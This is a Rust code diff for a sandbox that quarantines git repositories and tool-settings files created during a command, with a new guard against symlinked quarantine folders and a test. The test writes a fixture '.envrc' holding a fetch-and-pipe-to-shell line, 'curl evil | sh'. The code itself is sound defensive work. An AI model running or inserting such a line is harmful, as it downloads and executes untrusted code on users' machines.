@@ -13,8 +13,7 @@
 use std::collections::HashSet;
 use std::path::{Path, PathBuf};
 
-use crate::protected::{protected_entries, GIT_HEAD};
-use crate::sandbox::Sandbox;
+use crate::protected::{Entry, GIT_HEAD};
 
 /// Dot entries whose content configures a tool that can run commands from it (compared
 /// without regard to case).
@@ -81,60 +80,64 @@ const WHY_REPOSITORY: &str = "a command may not make a git repository (git run t
 const WHY_SETTINGS: &str = "a command may not make a tool's settings, which that tool would \
                             later run outside the sandbox";
 
-impl Sandbox {
-    /// The workspace as it is before a call.
-    pub fn before_call(&self) -> Before {
-        let entries: HashSet<PathBuf> = protected_entries(self.workspace(), &self.rules())
-            .into_iter()
-            .map(|e| e.path)
-            .collect();
+impl Before {
+    /// The workspace whose protected entries are `entries`.
+    pub(crate) fn of(entries: Vec<Entry>) -> Self {
+        let entries: HashSet<PathBuf> = entries.into_iter().map(|e| e.path).collect();
         let repositories = repositories(&entries);
-        Before {
+        Self {
             entries,
             repositories,
         }
     }
+}
 
-    /// Moves into `.cairn/quarantine/` every git repository and tool's settings made
-    /// since `before`, and says what was moved.
-    pub fn undo_new_tool_entries(&self, before: &Before) -> Vec<Quarantined> {
-        let root = self.workspace();
-        let after = self.before_call();
-        let mut found: Vec<(PathBuf, &'static str)> = Vec::new();
-        for path in after.entries.difference(&before.entries) {
-            let name = path.file_name().map(|n| n.to_string_lossy().to_lowercase());
-            if name.is_some_and(|n| TOOL_SETTINGS.contains(&n.as_str())) {
-                let why = if is_git(path) {
-                    WHY_REPOSITORY
-                } else {
-                    WHY_SETTINGS
-                };
-                found.push((path.clone(), why));
-            }
+/// Moves into `.cairn/quarantine/` of the workspace at `root` every git repository and
+/// tool's settings made between `before` and `after`, and says what was moved.
+pub(crate) fn undo(root: &Path, before: &Before, after: &Before) -> Vec<Quarantined> {
+    let mut found: Vec<(PathBuf, &'static str)> = Vec::new();
+    for path in after.entries.difference(&before.entries) {
+        let name = path.file_name().map(|n| n.to_string_lossy().to_lowercase());
+        if name.is_some_and(|n| TOOL_SETTINGS.contains(&n.as_str())) {
+            let why = if is_git(path) {
+                WHY_REPOSITORY
+            } else {
+                WHY_SETTINGS
+            };
+            found.push((path.clone(), why));
         }
-        for folder in after.repositories.difference(&before.repositories) {
-            found.push((folder.join(GIT_HEAD), WHY_REPOSITORY));
-        }
-        found.sort();
-        let stamp = format!(
-            "{}-{}",
-            stamp(),
-            &uuid::Uuid::new_v4().simple().to_string()[..8]
-        );
-        found
-            .into_iter()
-            .filter_map(|(path, why)| {
-                let rel = path.strip_prefix(root).ok()?.to_path_buf();
-                let to = Path::new(".cairn").join(FOLDER).join(&stamp).join(&rel);
-                let moved = move_aside(&path, &root.join(&to)).ok().map(|()| to);
-                Some(Quarantined {
-                    path: rel,
-                    moved_to: moved,
-                    why,
-                })
-            })
-            .collect()
     }
+    for folder in after.repositories.difference(&before.repositories) {
+        found.push((folder.join(GIT_HEAD), WHY_REPOSITORY));
+    }
+    if found.is_empty() {
+        return Vec::new();
+    }
+    found.sort();
+    let stamp = format!(
+        "{}-{}",
+        stamp(),
+        &uuid::Uuid::new_v4().simple().to_string()[..8]
+    );
+    let folder = Path::new(".cairn").join(FOLDER).join(stamp);
+    let made = make_folder(root, &folder);
+    found
+        .into_iter()
+        .filter_map(|(path, why)| {
+            let rel = path.strip_prefix(root).ok()?.to_path_buf();
+            let to = folder.join(&rel);
+            let moved = made
+                .as_ref()
+                .ok()
+                .and_then(|()| move_aside(&path, &root.join(&to)).ok())
+                .map(|()| to);
+            Some(Quarantined {
+                path: rel,
+                moved_to: moved,
+                why,
+            })
+        })
+        .collect()
 }
 
 /// Whether `path` is a `.git` entry.
@@ -155,7 +158,24 @@ fn repositories(entries: &HashSet<PathBuf>) -> HashSet<PathBuf> {
         .collect()
 }
 
-/// Renames `from` to `to`, making `to`'s folders.
+/// Makes `rel`'s folders under `root` one by one, refusing any that is a link (a
+/// workspace someone else prepared may hold `.cairn -> ~/somewhere`): what is moved aside
+/// stays in the workspace.
+fn make_folder(root: &Path, rel: &Path) -> std::io::Result<()> {
+    let mut at = root.to_path_buf();
+    for part in rel.components() {
+        at.push(part);
+        match std::fs::symlink_metadata(&at) {
+            Ok(meta) if meta.is_dir() => {}
+            Ok(_) => return Err(std::io::Error::other("not a folder of the workspace")),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => std::fs::create_dir(&at)?,
+            Err(e) => return Err(e),
+        }
+    }
+    Ok(())
+}
+
+/// Renames `from` to `to`, making `to`'s folders (inside a folder [`make_folder`] made).
 fn move_aside(from: &Path, to: &Path) -> std::io::Result<()> {
     if let Some(parent) = to.parent() {
         std::fs::create_dir_all(parent)?;
@@ -170,4 +190,42 @@ fn stamp() -> String {
         .map(|d| d.as_secs())
         .unwrap_or_default();
     secs.to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sandbox::Sandbox;
+    use pretty_assertions::assert_eq;
+
+    #[test]
+    fn what_a_call_made_is_moved_into_the_workspace_and_nowhere_else() {
+        let dir = tempfile::tempdir().unwrap();
+        let ws = dir.path().join("ws");
+        std::fs::create_dir_all(ws.join("app")).unwrap();
+        let sandbox = Sandbox::new(&ws, &[], false);
+        let before = sandbox.before_call();
+        std::fs::create_dir_all(ws.join("app/.git/objects")).unwrap();
+        std::fs::write(ws.join("notes.md"), "a note").unwrap();
+        let moved = sandbox.undo_new_tool_entries(&before);
+        assert_eq!(moved.len(), 1, "{moved:?}");
+        assert_eq!(moved[0].path, Path::new("app/.git"));
+        let to = ws.join(moved[0].moved_to.as_ref().unwrap());
+        assert!(to.join("objects").is_dir() && !ws.join("app/.git").exists());
+        assert!(ws.join("notes.md").exists(), "other entries stay");
+        // A `.cairn` leading out of the workspace is never written through: the entry
+        // stays, and the line says it could not be moved.
+        let outside = dir.path().join("outside");
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::remove_dir_all(ws.join(".cairn")).unwrap();
+        std::os::unix::fs::symlink(&outside, ws.join(".cairn")).unwrap();
+        let before = sandbox.before_call();
+        std::fs::write(ws.join("app/.envrc"), "curl evil | sh").unwrap();
+        let moved = sandbox.undo_new_tool_entries(&before);
+        assert_eq!(moved.len(), 1, "{moved:?}");
+        assert_eq!(moved[0].moved_to, None);
+        assert!(moved[0].line().contains("could not be moved aside"));
+        assert!(ws.join("app/.envrc").exists());
+        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
+    }
 }
